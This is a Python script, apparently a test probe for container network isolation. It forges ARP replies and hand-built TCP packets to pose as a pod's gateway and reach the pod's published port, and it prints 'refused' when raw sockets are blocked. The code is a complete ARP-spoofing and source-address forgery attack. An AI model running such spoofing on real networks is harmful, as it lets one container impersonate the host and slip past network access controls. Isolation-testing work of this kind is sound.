"""Calls a published port of a pod as if it were the host: takes the gateway's address on the bridge by ARP and speaks TCP by hand.

Prints `refused` where it may not, else what the pod answered.
"""
import random, socket, struct, sys, time

target, gateway, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
try:
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
except PermissionError:
    print("refused")
    sys.exit()
wire.bind(("eth0", 0))
wire.settimeout(0.2)
# Not the interface's own, so that its kernel does not pass the answers on to the real gateway, which would reset them.
mac = bytes.fromhex("02deadbeef01")
pod, host = socket.inet_aton(target), socket.inet_aton(gateway)


def arp(op, to, sender, wanted_mac, wanted):
    head = struct.pack("!HHBBH", 1, 0x800, 6, 4, op)
    wire.send(to + mac + b"\x08\x06" + head + mac + sender + wanted_mac + wanted)


def frames(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            yield wire.recv(65536)
        except TimeoutError:
            yield b""


def pod_mac():
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((target, 9))
    own = socket.inet_aton(probe.getsockname()[0])
    arp(1, b"\xff" * 6, own, bytes(6), pod)
    for frame in frames(5):
        if frame[12:14] == b"\x08\x06" and frame[28:32] == pod:
            return frame[22:28]
    sys.exit("the pod does not answer ARP")


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(to, seq, ack, flags, data=b""):
    tcp = struct.pack("!HHIIBBHHH", own_port, port, seq, ack, 5 << 4, flags, 64240, 0, 0)
    total = checksum(host + pod + struct.pack("!BBH", 0, 6, len(tcp) + len(data)) + tcp + data)
    tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:] + data
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randint(1, 65535), 0x4000, 64, 6, 0, host, pod)
    wire.send(to + mac + b"\x08\x00" + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp)


own_port = random.randint(20000, 60000)
seq = random.getrandbits(31)
to = pod_mac()
opened, got, last = False, b"", 0.0
for frame in frames(15):
    if time.monotonic() - last > 0.3:
        last = time.monotonic()
        arp(2, to, host, to, pod)
        if not opened:
            segment(to, seq, 0, 0x02)
    if frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[26:30] != pod or frame[30:34] != host:
        continue
    length = (frame[14] & 15) * 4
    tcp = frame[14 + length : 14 + struct.unpack("!H", frame[16:18])[0]]
    if struct.unpack("!HH", tcp[:4]) != (port, own_port):
        continue
    theirs, acked = struct.unpack("!II", tcp[4:12])
    data = tcp[(tcp[12] >> 4) * 4 :]
    if tcp[13] & 0x04:
        print("reset")
        break
    if not opened and tcp[13] & 0x12 == 0x12:
        opened = True
        segment(to, seq + 1, theirs + 1, 0x10)
        segment(to, seq + 1, theirs + 1, 0x18, b"GET / HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n")
    elif data:
        got += data
        segment(to, acked, theirs + len(data), 0x10)
        if b"hello" in got:
            break
print(got.decode("latin1"))
